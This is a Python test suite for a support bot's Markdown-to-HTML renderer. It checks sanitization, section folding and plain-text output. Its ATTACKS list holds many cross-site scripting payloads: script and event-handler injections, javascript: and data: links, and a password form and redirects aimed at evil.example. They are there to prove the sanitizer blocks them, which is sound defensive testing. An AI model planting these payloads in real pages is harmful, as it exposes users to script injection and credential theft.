"""What an editor, or somebody in an editor's place, cannot put before a customer."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from topay_bot.knowledge.rendering import answer_html, sections, to_html, to_text

TAGS = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "h2", "h3", "h4",
    "table", "thead", "tbody", "tr", "th", "td", "details", "summary",
}  # fmt: skip
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("a", "title"), ("ol", "start")}
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>*{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object>",
    "<details open ontoggle=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:x)",
    "[x](//evil.example)",
    "[x](/v1/logout)",
    "[x](?q=1)",
    "[x](#top)",
    "[x](\\\\evil.example)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    '[x](https://a.example "t\\" onclick=alert(1)")',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "**<b onmouseover=alert(1)>x</b>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| x |",
    "## <img src=x onerror=alert(1)>\n\nx",
    "## [x](javascript:alert(1))\n\nx",
    "- <svg onload=alert(1)>\n  1. <script>x</script>",
    '<a href="https://a.example" style="position:fixed" target=_top>x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class _Reader(HTMLParser):
    """Reads as a browser does: what counts is the elements, not the words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in ATTRIBUTES:
                self.bad.append(f"{tag}.{name}={value}")
            if name == "href":
                self.links.append(value or "")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(decl)

    def handle_pi(self, data: str) -> None:
        self.bad.append(data)


def _is_safe(html: str) -> None:
    read = _Reader(html)
    assert read.bad == []
    assert all(link.lower().startswith(("https://", "http://", "mailto:", "tel:")) for link in read.links), read.links


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    for text in (attack, f"**{attack}**", f"> {attack}", f"1. {attack}", f"x\n\n## y\n\n{attack}"):
        _is_safe(to_html(text))
        _is_safe(answer_html(text))


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n\n", "\n", "    ", "> ", "- ", "](", "<", ">", '"', "&", "x"]), max_size=6)
)
def test_no_mixture_of_attacks_survives(parts: list[str]) -> None:
    _is_safe(answer_html("".join(parts)))


@pytest.mark.parametrize(
    "link", ["https://a.example/x?y=1", "http://a.example", "mailto:a@b.example", "tel:400-000-0000"]
)
def test_honest_links_survive_without_the_page_they_come_from(link: str) -> None:
    html = to_html(f"[help]({link})")
    assert html == f'<p><a href="{link}" rel="noopener noreferrer nofollow">help</a></p>'


def test_markdown_becomes_html() -> None:
    assert to_html("**a** ~~b~~\n\n3. c\n\n| d |\n| --- |\n| e |") == (
        "<p><strong>a</strong> <s>b</s></p>\n"
        '<ol start="3">\n<li>c</li>\n</ol>\n'
        "<table>\n<thead>\n<tr>\n<th>d</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>e</td>\n</tr>\n</tbody>\n</table>"
    )


ANSWER = """可以。

1. 打开 **卡包**。

## 如果 **没有** 解决 ##

联系客服。

### 更多

```
## 不是标题
```

## Q&A <b>
"""


def test_sections() -> None:
    lead, rest = sections(ANSWER)
    assert lead == "可以。\n\n1. 打开 **卡包**。"
    assert rest == [
        ("如果 没有 解决", "联系客服。\n\n### 更多\n\n```\n## 不是标题\n```"),
        ("Q&A <b>", ""),
    ]


def test_an_answer_without_sections() -> None:
    assert sections("可以。") == ("可以。", [])
    assert answer_html("可以。") == "<p>可以。</p>"
    assert answer_html("") == ""


@pytest.mark.parametrize("newline", ["\r\n", "\r"])
def test_sections_of_a_text_from_elsewhere(newline: str) -> None:
    assert [heading for heading, _ in sections(ANSWER.replace("\n", newline))[1]] == ["如果 没有 解决", "Q&A <b>"]


def test_headings_in_lists_and_odd_line_breaks_do_not_shift_sections() -> None:
    assert sections("a\x0cb\u2028c\n\n- ## no\n\n## yes\n\nd") == ("a\x0cb\u2028c\n\n- ## no", [("yes", "d")])


def test_sections_are_folded_behind_the_answer() -> None:
    html = answer_html(ANSWER)
    assert html.startswith("<p>可以。</p>")
    assert "<details><summary>如果 没有 解决</summary><p>联系客服。</p>" in html
    assert "<summary>Q&amp;A &lt;b&gt;</summary>" in html


def test_plain_text() -> None:
    text = (
        "可以 **马上** 办。\n\n9. 打开 `卡包`\n10. 点\n    - 甲\n    - 乙\n\n## 更多\n\n"
        "看 [帮助](https://a.example)、<https://b.example>、[这里](/x)。\n\n```\ncode\n```\n\n![图](https://c.example/x.png)"
    )
    assert to_text(text) == (
        "可以 马上 办。\n9. 打开 卡包\n10. 点\n  - 甲\n  - 乙\n更多\n看 帮助 (https://a.example)、https://b.example、这里。\ncode"
    )


@given(st.text("ab*_`#->|[](){}!~\n 0123456789.<&", max_size=60))
def test_no_text_raises(text: str) -> None:
    to_text(text)
    _is_safe(answer_html(text))
    lead, rest = sections(text)
    assert len(lead) + sum(len(heading) + len(body) for heading, body in rest) <= len(text)
